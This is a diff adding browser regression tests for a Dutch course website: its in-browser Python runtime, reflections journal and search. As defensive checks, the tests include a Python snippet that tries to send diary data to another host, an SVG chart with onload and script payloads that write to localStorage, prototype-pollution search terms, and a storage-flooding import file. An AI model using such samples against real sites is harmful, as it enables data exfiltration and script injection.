@@ -202,3 +202,314 @@ def test_deck_from_a_folder_keeps_its_speaker_view_and_drops_the_address(browser
     wait_for(frames[0], "Reveal.getIndices().h === 5")
     assert tab.evaluate("localStorage.getItem('gestolen')") is None
     ctx.close()
+
+
+# --- the in-browser Python runtime ------------------------------------------------------------------------
+
+LEAK = """import js
+verzoek = js.XMLHttpRequest.new()
+verzoek.open("GET", "{url}", False)
+try:
+    verzoek.send()
+    print("verstuurd", verzoek.status)
+except Exception as fout:
+    print("tegengehouden")
+"""
+
+
+def _run_in_runtime(browser, site: str, code: str, then=None) -> str:
+    """Start the runtime on module 4's notebook page under its own policy, run ``code`` in the
+    first editable cell, and return what the cell printed (``then(page, cell)`` runs after)."""
+    ctx = browser.new_context()
+    try:
+        pg = ctx.new_page()
+        pg.goto(f"{site}exercises/m4-gebruikspatroon.html", wait_until="networkidle")
+        pg.get_by_role("button", name="Zelf proberen in je browser").click()
+        wait_for(pg, "document.querySelector('.cursus-oefenen-status') && "
+                     "document.querySelector('.cursus-oefenen-status').textContent.startsWith('Klaar')", timeout=120)
+        cell = pg.locator("div.cell:has(textarea)").first
+        cell.locator("textarea").fill(code)
+        cell.locator(".cursus-oefenen-cel > .cursus-oefenen-melding").evaluate("n => n.textContent = ''")
+        cell.get_by_role("button", name="Uitvoeren").click()
+        melding = cell.locator(".cursus-oefenen-cel > .cursus-oefenen-melding").element_handle()
+        wait_for(pg, "(n) => n.textContent.trim() !== ''", melding, timeout=60)
+        if then:
+            then(pg, cell)
+        return melding.text_content() + "\n" + cell.locator(".cell_output").first.inner_text()
+    finally:
+        ctx.close()
+
+
+def test_python_in_the_runtime_cannot_send_to_another_host(browser, site, other_site):
+    """The tester's Python sent the diary to another host: the worker ran without the page's
+    policy. Control: the same request to the site itself goes through, so the code does run."""
+    elders, _folder, asked = other_site
+    code = LEAK.format(url=elders + "lek?dagboek=1") + LEAK.format(url=site + "index.html")
+    out = _run_in_runtime(browser, site, code)
+    assert asked == [], asked
+    assert out.startswith("Klaar") and out.split()[-3:] == ["tegengehouden", "verstuurd", "200"], out
+
+
+HOSTILE_CHART = """class Grafiek:
+    alt = "Een grafiek"
+    def _repr_svg_(self):
+        return ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" '
+                'onload="localStorage.setItem(\\'gestolen\\', \\'onload\\')">'
+                '<script>localStorage.setItem("gestolen", "script")</script>'
+                '<rect width="40" height="40"/></svg>')
+Grafiek()
+"""
+
+
+def test_a_chart_opened_on_its_own_is_no_page_of_the_site(browser, site):
+    """The tester's chart, opened in its own tab, was a page of the course's origin and its
+    script ran. Now a chart is a data: image, outside every link, and opened on its own it runs
+    nothing that reaches the site's storage."""
+    seen = {}
+
+    def check(pg, cell):
+        img = cell.locator("img.cursus-oefenen-grafiek")
+        wait_for(pg, "(n) => n.querySelector('img.cursus-oefenen-grafiek')", cell.element_handle())
+        src = img.get_attribute("src")
+        seen["src"] = src
+        seen["linked"] = img.evaluate("n => Boolean(n.closest('a[href]'))")
+        assert pg.evaluate("localStorage.getItem('gestolen')") is None    # inside <img> nothing runs
+        tab = pg.context.new_page()
+        try:
+            tab.goto(src)
+        except Exception as error:          # Chromium may refuse a data: address in a tab outright
+            seen["refused"] = str(error)
+        tab.wait_for_timeout(500)
+        seen["stored"] = pg.evaluate("localStorage.getItem('gestolen')")
+        seen["tab_origin"] = tab.evaluate("origin") if "refused" not in seen else None
+        tab.close()
+
+    _run_in_runtime(browser, site, HOSTILE_CHART, check)
+    assert seen["stored"] is None, seen
+    assert seen["tab_origin"] in (None, "null"), seen
+    assert seen["src"].startswith("data:image/svg+xml"), seen["src"][:40]
+    assert seen["linked"] is False
+
+
+# --- the journal ("Mijn reflecties") ------------------------------------------------------------------------
+
+import json  # noqa: E402
+
+from conftest import course_index  # noqa: E402
+
+PREFIX = "sociale-media-mentale-gezondheid:"
+JOURNAL = "book/bijlagen/mijn-reflecties.html"
+
+
+def _ids() -> list[str]:
+    return [r["id"] for r in course_index()["reflections"]]
+
+
+def _export(answers: dict[str, str], **extra) -> str:
+    return json.dumps({"soort": "mijn-reflecties", "cursus": "Sociale media en mentale gezondheid", "versie": 1,
+                       "antwoorden": [{"id": k, "titel": k, "antwoord": v} for k, v in answers.items()], **extra})
+
+
+def _import(pg, tmp_path: Path, text: str, name: str = "mijn-reflecties.json") -> None:
+    path = tmp_path / name
+    path.write_text(text, encoding="utf-8")
+    pg.get_by_label("Eerder gedownload bestand importeren (.json)").set_input_files(str(path))
+
+
+def _status(pg) -> str:
+    return pg.locator("#cursus-dagboek .cursus-status").inner_text()
+
+
+@pytest.fixture
+def journal(browser, site):
+    ctx = browser.new_context()
+    pg = ctx.new_page()
+    pg.errors = []
+    pg.on("pageerror", lambda e: pg.errors.append(str(e)))
+    pg.goto(site + JOURNAL, wait_until="networkidle")
+    yield pg
+    ctx.close()
+
+
+def test_only_new_answers_keeps_what_another_tab_wrote_meanwhile(journal, tmp_path):
+    first, second = _ids()[:2]
+    journal.evaluate("([k, v]) => localStorage.setItem(k, v)", [PREFIX + "reflectie:" + first, "in deze browser"])
+    journal.reload(wait_until="networkidle")
+    _import(journal, tmp_path, _export({first: "uit het bestand", second: "nieuw uit het bestand"}))
+    journal.get_by_role("button", name="Alleen nieuwe antwoorden toevoegen").wait_for()
+    other = journal.context.new_page()                      # another tab writes while the question is open
+    other.goto(journal.url, wait_until="networkidle")
+    other.evaluate("([k, v]) => localStorage.setItem(k, v)", [PREFIX + "reflectie:" + second, "in het andere tabblad"])
+    other.close()
+    journal.get_by_role("button", name="Alleen nieuwe antwoorden toevoegen").click()
+    value = journal.evaluate("(k) => localStorage.getItem(k)", PREFIX + "reflectie:" + second)
+    assert value == "in het andere tabblad"
+    assert journal.evaluate("(k) => localStorage.getItem(k)", PREFIX + "reflectie:" + first) == "in deze browser"
+    assert "0 antwoorden ingelezen" in _status(journal)
+    assert "1 antwoorden zijn intussen in deze browser veranderd" in _status(journal)
+
+
+def test_unknown_ids_are_ignored_with_a_count(journal, tmp_path):
+    first = _ids()[0]
+    _import(journal, tmp_path, _export({first: "mijn antwoord", "bestaat-niet-1": "x", "constructor": "y"}))
+    wait_for(journal, "document.querySelector('#cursus-dagboek .cursus-status').textContent.includes('ingelezen')")
+    keys = journal.evaluate("Object.keys(localStorage)")
+    assert PREFIX + "reflectie:" + first in keys                     # control: a known id is stored
+    assert not [k for k in keys if "bestaat-niet" in k or k.endswith(":constructor")], keys
+    assert "2 antwoorden horen bij geen opdracht van deze cursus" in _status(journal)
+
+
+def test_a_file_with_junk_answers_is_refused_whole(journal, tmp_path):
+    """The tester's 9 MB export: 107,075 junk answers filled the storage."""
+    junk = {f"rommel-{i}": "x" * 12 for i in range(107_075)}
+    text = _export(junk)
+    assert 5_000_000 < len(text) < 10 * 1024 * 1024
+    _import(journal, tmp_path, text)
+    wait_for(journal, "document.querySelector('#cursus-dagboek .cursus-status').textContent.length > 0", timeout=60)
+    assert "meer dan 1000 antwoorden" in _status(journal)
+    assert [k for k in journal.evaluate("Object.keys(localStorage)") if "rommel" in k] == []
+
+
+def test_migration_takes_only_this_courses_old_keys(browser, site):
+    first, module = _ids()[0], course_index()["modules"][0]["id"]
+    ctx = browser.new_context()
+    pg = ctx.new_page()
+    pg.goto(site + "genindex.html")
+    pg.evaluate("""([own, module]) => {
+        localStorage.setItem('cursus:reflectie:' + own, 'mijn oude antwoord');
+        localStorage.setItem('cursus:reflectie:andere-cursus-vraag-3', 'van een andere cursus');
+        localStorage.setItem('cursus:voortgang:' + module, 'klaar');
+        localStorage.setItem('cursus:voortgang:andere-cursus', 'klaar');
+    }""", [first, module])
+    pg.goto(site + JOURNAL, wait_until="networkidle")
+    stored = pg.evaluate("Object.fromEntries(Object.keys(localStorage).map(k => [k, localStorage.getItem(k)]))")
+    assert stored.get(PREFIX + "reflectie:" + first) == "mijn oude antwoord"       # control: ours moved
+    assert stored.get(PREFIX + "voortgang:" + module) == "klaar"
+    assert stored.get("cursus:reflectie:andere-cursus-vraag-3") == "van een andere cursus"
+    assert stored.get("cursus:voortgang:andere-cursus") == "klaar"
+    assert not [k for k in stored if "andere-cursus" in k and k.startswith(PREFIX)], stored
+    ctx.close()
+
+
+def test_progress_and_the_last_page_travel_with_the_export(journal, tmp_path):
+    index = course_index()
+    module = str(index["modules"][1]["id"])
+    journal.evaluate("""([p, m]) => {
+        localStorage.setItem(p + 'voortgang:' + m, 'klaar');
+        localStorage.setItem(p + 'laatste-pagina', JSON.stringify({page: 'book/m2-lange-termijn/index.html',
+            title: 'Module 2', module: 'Module 2'}));
+    }""", [PREFIX, module])
+    exported = journal.evaluate("window.cursus.exportJson()")
+    data = json.loads(exported)
+    assert data["voortgang"] == [module] and data["laatstePagina"]["page"] == "book/m2-lange-termijn/index.html"
+    journal.evaluate("localStorage.clear()")
+    journal.reload(wait_until="networkidle")
+    _import(journal, tmp_path, exported)
+    wait_for(journal, "document.querySelector('#cursus-dagboek .cursus-status').textContent.includes('ingelezen')")
+    assert journal.evaluate("(k) => localStorage.getItem(k)", PREFIX + "voortgang:" + module) == "klaar"
+    last = json.loads(journal.evaluate("(k) => localStorage.getItem(k)", PREFIX + "laatste-pagina"))
+    assert last["page"] == "book/m2-lange-termijn/index.html"
+    assert "1 module op klaar" in _status(journal)
+    assert journal.errors == []
+
+
+def test_over_file_urls_the_journal_warns_and_offers_the_site(browser, site):
+    page = (HTML / JOURNAL).as_uri()
+    ctx = browser.new_context()
+    pg = ctx.new_page()
+    pg.goto(page)
+    warning = pg.locator(".cursus-lokaal")
+    assert "elk ander HTML-bestand" in warning.inner_text()
+    assert warning.locator("a").get_attribute("href") == course_index()["substitutions"]["site_url"]
+    pg.goto(site + JOURNAL, wait_until="networkidle")                  # control: served, no warning
+    assert pg.locator(".cursus-lokaal").count() == 0
+    assert pg.locator("#cursus-dagboek .cursus-dagboek-knoppen").count() == 1
+    ctx.close()
+
+
+def _diary_row(browser, site: str, value: str) -> tuple[str, list[str]]:
+    ctx = browser.new_context()
+    try:
+        pg = ctx.new_page()
+        errors: list[str] = []
+        pg.on("pageerror", lambda e: errors.append(str(e)))
+        pg.goto(site + "genindex.html")
+        pg.evaluate("(v) => localStorage.setItem('sociale-media-mentale-gezondheid:oefenen-bestand', v)", value)
+        pg.goto(f"{site}exercises/m4-gebruikspatroon.html", wait_until="networkidle")
+        pg.get_by_role("button", name="Zelf proberen in je browser").click()
+        wait_for(pg, "document.querySelector('.cursus-oefenen-bewaard')", timeout=120)
+        return pg.locator(".cursus-oefenen-bewaard").inner_text(), errors
+    finally:
+        ctx.close()
+
+
+@pytest.mark.parametrize("damaged", ['{"naam": "dagboek.csv", "inhoud": "%%%"}', "{kapot", '"tekst"', '{"naam": 5}'])
+def test_a_damaged_stored_diary_gives_a_dutch_message(browser, site, damaged):
+    row, errors = _diary_row(browser, site, damaged)
+    assert "beschadigd" in row and errors == []
+
+
+def test_a_sound_stored_diary_is_offered(browser, site):
+    """Control: a diary stored as the page stores it is offered, not called damaged."""
+    import base64
+
+    value = json.dumps({"naam": "dagboek.csv", "inhoud": base64.b64encode(b"datum;minuten\n").decode()})
+    row, errors = _diary_row(browser, site, value)
+    assert "In deze browser is een dagboek bewaard: dagboek.csv" in row and errors == []
+
+
+def test_search_terms_and_colour_scheme_are_kept_under_the_prefix_and_wiped(browser, site):
+    """The tester found the search terms in localStorage outside the prefix, kept after
+    "Alles wissen". Now a search, the colour switch and the sidebar store under the prefix only,
+    and the wipe leaves nothing; the control is that they did store something."""
+    ctx = browser.new_context()
+    pg = ctx.new_page()
+    pg.goto(site + "search.html?q=gesprek", wait_until="networkidle")
+    wait_for(pg, "document.querySelector('#search-results') && "
+                 "document.querySelector('#search-results').textContent.length > 0", timeout=30)
+    pg.goto(site + "book/m1-spectrum/index.html", wait_until="networkidle")
+    pg.locator("button.theme-switch-button").first.click()
+    pg.goto(site + JOURNAL, wait_until="networkidle")
+    kept = pg.evaluate("[...Object.keys(localStorage), ...Object.keys(sessionStorage)]")
+    assert PREFIX + "kleurmodus" in kept and kept, kept           # control: something was kept
+    assert [k for k in kept if not k.startswith(PREFIX)] == [], kept
+    pg.once("dialog", lambda d: d.accept())
+    pg.get_by_role("button", name="Alles wissen").click()
+    assert pg.evaluate("[...Object.keys(localStorage), ...Object.keys(sessionStorage)]") == []
+    ctx.close()
+
+
+# --- search ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("word", ["constructor", "__proto__", "hasOwnProperty", "toString", "gesprek"])
+def test_a_search_for_any_word_finishes(browser, site, word):
+    """``constructor`` and ``__proto__`` never finished (the index's plain objects answered with
+    their prototype); "gesprek" is the control with results."""
+    ctx = browser.new_context()
+    pg = ctx.new_page()
+    errors: list[str] = []
+    pg.on("pageerror", lambda e: errors.append(str(e)))
+    pg.goto(site + "search.html?q=" + quote(word), wait_until="networkidle")
+    wait_for(pg, "document.querySelector('#search-results p.search-summary') && "
+                 "!document.querySelector('#search-results').textContent.includes('Bezig met zoeken')", timeout=20)
+    summary = pg.locator("#search-results p.search-summary").inner_text()
+    found = pg.locator("#search-results ul.search li").count()
+    assert errors == []
+    assert ("geen resultaten" in summary) if not found else ("gevonden" in summary), summary
+    assert (found > 0) is (word == "gesprek")
+    ctx.close()
+
+
+def test_the_hide_highlights_link_works_under_the_policy(browser, site):
+    ctx = browser.new_context()
+    ctx.add_init_script(CSP_LISTENER)
+    pg = ctx.new_page()
+    pg.goto(site + "book/m4-tips/03-gespreksleidraad.html?highlight=gesprek", wait_until="networkidle")
+    wait_for(pg, "document.querySelector('span.highlighted')")         # control: the terms are marked
+    link = pg.locator(".highlight-link a")
+    link.click()
+    wait_for(pg, "!document.querySelector('span.highlighted')")
+    assert pg.locator(".highlight-link").count() == 0
+    assert pg.evaluate("window.__cspViolations") == []
+    ctx.close()
